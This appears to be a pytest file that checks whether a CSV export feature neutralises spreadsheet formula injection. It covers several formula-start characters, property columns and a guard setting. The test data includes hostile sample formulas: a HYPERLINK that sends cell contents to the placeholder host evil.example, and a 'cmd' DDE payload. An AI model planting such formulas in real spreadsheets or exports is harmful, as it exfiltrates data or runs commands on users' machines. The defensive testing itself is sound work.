"""CSV formula injection (issue 18): cells a spreadsheet would run as formulas are written with a
leading `'` (the OWASP rule), in plain columns and in unpacked JSON property columns; numbers
stay numbers; THREADLINE_CSV_FORMULA_GUARD=off writes every cell as stored."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from starlette.testclient import TestClient

from threadline.app import create_app
from threadline.config import Settings, settings_from_env
from threadline.query.export import FORMULA_STARTS, neutralise

# OWASP's list; NUL (ASVS) cannot be stored in PostgreSQL text, so only neutralise() sees it.
STORABLE_STARTS = ("=", "+", "-", "@", "\t", "\r")
SELECT = {
    "select": [
        {"type": "field", "field": "type"},
        {"type": "field", "field": "messageId"},
        {"type": "field", "field": "properties"},
    ],
    "orderBy": [{"field": "messageId", "direction": "asc"}],
}


def hostile(start: str) -> str:
    return f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'


def store(client: TestClient, headers: dict[str, str], start: str, properties: Any) -> None:
    event = {
        "type": hostile(start),
        "entityType": "message",
        "messageId": f"m{STORABLE_STARTS.index(start)}",
        "properties": properties,
    }
    response = client.post("/events", json=event, headers=headers)
    assert response.status_code == 200, response.text


def export(client: TestClient, headers: dict[str, str]) -> list[dict[str, str]]:
    response = client.post("/query/events/export", json=SELECT, headers=headers)
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


def test_every_formula_start_is_neutralised_in_columns_and_properties(
    client: TestClient, api_headers: dict[str, str]
) -> None:
    for start in STORABLE_STARTS:
        store(client, api_headers, start, {"note": hostile(start)})
    rows = export(client, api_headers)
    assert [row["messageId"] for row in rows] == [f"m{n}" for n in range(len(STORABLE_STARTS))]
    for start, row in zip(STORABLE_STARTS, rows, strict=True):
        assert row["type"] == "'" + hostile(start), start
        assert row["properties.note"] == "'" + hostile(start), start


def test_numbers_stay_numbers_and_number_shaped_text_stays_as_it_is(
    client: TestClient, api_headers: dict[str, str]
) -> None:
    properties = {
        "int": -5,
        "float": -1.5,
        "tiny": -1e-7,
        "text": "-5",
        "sum": "-5+3",
        "exponent_then_formula": "-1e+19+cmd|' /C calc'!A0",
        "flag": True,
        "object": {"inner": "=1+2"},
    }
    store(client, api_headers, "=", properties)
    (row,) = export(client, api_headers)
    assert row["properties.int"] == "-5"
    assert row["properties.float"] == "-1.5"
    assert float(row["properties.tiny"]) == -1e-7  # 1e-07 or 0.0000001, by backend
    assert row["properties.text"] == "-5"
    assert row["properties.sum"] == "'-5+3"
    assert row["properties.exponent_then_formula"] == "'-1e+19+cmd|' /C calc'!A0"
    assert row["properties.flag"] == "true"
    assert row["properties.object"] == '{"inner":"=1+2"}'  # a JSON object starts with {


@pytest.fixture
def unguarded(database_url: str) -> Iterator[TestClient]:
    settings = Settings(database_url=database_url, csv_formula_guard=False)
    with TestClient(create_app(settings)) as test_client:
        yield test_client


def test_with_the_guard_off_cells_are_exactly_as_stored(
    unguarded: TestClient, api_headers: dict[str, str]
) -> None:
    for start in STORABLE_STARTS:
        store(unguarded, api_headers, start, {"note": hostile(start)})
    rows = export(unguarded, api_headers)
    assert [row["type"] for row in rows] == [hostile(s) for s in STORABLE_STARTS]
    assert [row["properties.note"] for row in rows] == [hostile(s) for s in STORABLE_STARTS]


def test_neutralise_follows_the_owasp_rule() -> None:
    for start in FORMULA_STARTS:
        assert neutralise(start + "1+2") == "'" + start + "1+2", repr(start)
    for safe in ("", "plain", " =1+2", "'=1+2", "1-2", "a=b", '{"k":"=1"}', "-5", "-0.25"):
        assert neutralise(safe) == safe
    for number_then_more in ("-5 ", "-5,5", "-1e5e5", "-.5", "-5-5", "+5"):
        assert neutralise(number_then_more) == "'" + number_then_more


@pytest.mark.parametrize(
    ("raw", "guard"), [(None, True), ("off", False), ("0", False), ("false", False), ("on", True)]
)
def test_the_guard_is_on_unless_turned_off(raw: str | None, guard: bool) -> None:
    environ = {} if raw is None else {"THREADLINE_CSV_FORMULA_GUARD": raw}
    assert settings_from_env(environ).csv_formula_guard is guard
